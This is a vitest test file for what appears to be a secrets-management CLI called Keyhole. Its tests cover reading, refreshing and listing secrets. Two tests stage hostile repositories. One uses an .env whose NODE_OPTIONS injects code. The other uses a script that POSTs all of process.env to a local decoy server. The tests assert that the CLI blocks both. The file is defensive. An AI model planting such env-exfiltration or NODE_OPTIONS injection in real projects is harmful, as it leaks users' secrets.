import { spawnSync } from "node:child_process";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { chmod, writeFile } from "node:fs/promises";
import path from "node:path";
import { serveSandbox, type RunningSandbox } from "@keyhole/sandbox/serve";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { createMachine, published, runProgram, start, type Machine } from "../support/program.js";
import { fetchDirectly, recordFor, variablesFor } from "../support/sandbox-connections.js";

const web = "keyhole://prod/Web%20Shop";

let sandbox: RunningSandbox;
let machine: Machine;
let env: Record<string, string>;
let value: () => Promise<string>;

beforeAll(async () => {
  sandbox = await serveSandbox();
  const genauth = sandbox.describe()["genauth"]!;
  env = { ...variablesFor("prod", "genauth", genauth), KEYHOLE_ALLOW: web };
  const record = recordFor("prod", "genauth", genauth);
  value = () => fetchDirectly(record, String(genauth.examples["appId"]), "secret");
});
afterAll(() => sandbox.close());
beforeEach(async () => {
  await sandbox.sandbox.reset();
  machine = await createMachine();
});
afterEach(() => machine.remove());

describe("The program, as a process,", () => {
  test("reads a secret, and lists them all", async () => {
    const read = await runProgram(machine, ["read", web], env);
    expect(read).toMatchObject({ code: 0, stdout: await value(), stderr: "" });
    const list = await runProgram(machine, ["list", "prod", "--json"], env);
    expect(JSON.parse(list.stdout)).toContainEqual(expect.objectContaining({ reference: web }));
  });

  test("refreshes a secret with exactly one write", async () => {
    const before = await value();
    const { code } = await runProgram(machine, ["refresh", "--yes", web], env);
    expect(code).toBe(0);
    expect(await value()).not.toBe(before);
    expect(sandbox.sandbox.calls()["genauth"]).toMatchObject({ refreshApplicationSecret: 1 });
  });

  test.skipIf(process.platform === "win32")("exits with 130 if it is interrupted", async () => {
    sandbox.sandbox.addFault("genauth", { delayMs: 600_000 });
    const running = start(machine, ["read", web], env);
    await asked();
    running.process.kill("SIGINT");
    expect(await running.ended).toMatchObject({ code: 130, stdout: "" });
  });

  test.skipIf(process.platform === "win32")(
    "runs no code of an env file that is an argument of the command or of Keyhole",
    async () => {
      await writeFile(path.join(machine.repository, "x.cjs"), 'console.log("code of the file");');
      await writeFile(path.join(machine.repository, ".env"), "NODE_OPTIONS=--require ./x.cjs\n");
      await chmod(published, 0o755);
      for (const args of [
        ["docker", "--env-file", ".env"],
        ["--env-file=.env", "--", "true"],
      ]) {
        const { stdout } = spawnSync(published, ["run", ...args], { cwd: machine.repository });
        expect(stdout.toString()).toBe("");
      }
    },
  );

  test("gives no value to a script of a hostile repository", async () => {
    const posted: string[] = [];
    const decoy = await serveDecoy(posted);
    const { port } = decoy.address() as AddressInfo;
    const post = `fetch("http://127.0.0.1:${port}", { method: "POST", body: JSON.stringify(process.env) })`;
    await writeFile(path.join(machine.repository, "post.mjs"), `await ${post};\n`);
    await writeFile(
      path.join(machine.repository, ".env"),
      `X=${web}\nKEYHOLE_ALLOW=${web}\nNODE_OPTIONS=--import=${path.join(machine.repository, "post.mjs")}\n`,
    );
    const { KEYHOLE_ALLOW: _, ...withoutApproval } = env;
    const args = ["run", "--", process.execPath, "post.mjs"];
    const run = await runProgram(machine, args, withoutApproval);
    expect(run).toMatchObject({ code: 2, stdout: "" });
    const named = ["run", "--allow-variable", "NODE_OPTIONS", ...args.slice(1)];
    const accepted = await runProgram(machine, named, withoutApproval);
    expect(accepted).toMatchObject({ code: 4, stdout: "" });
    const allow = await runProgram(machine, ["allow"], withoutApproval);
    expect(allow.code).toBe(4);
    expect(posted).toStrictEqual([]);
    expect(sandbox.sandbox.calls()["genauth"]).toStrictEqual({});
    decoy.close();
  });
});

/** Resolves after the first request to the vendor. */
async function asked(): Promise<void> {
  while (Object.keys(sandbox.sandbox.calls()["genauth"] ?? {}).length === 0) {
    await new Promise((resolve) => setImmediate(resolve));
  }
}

async function serveDecoy(posted: string[]): Promise<Server> {
  const server = createServer((request, response) => {
    posted.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return server;
}
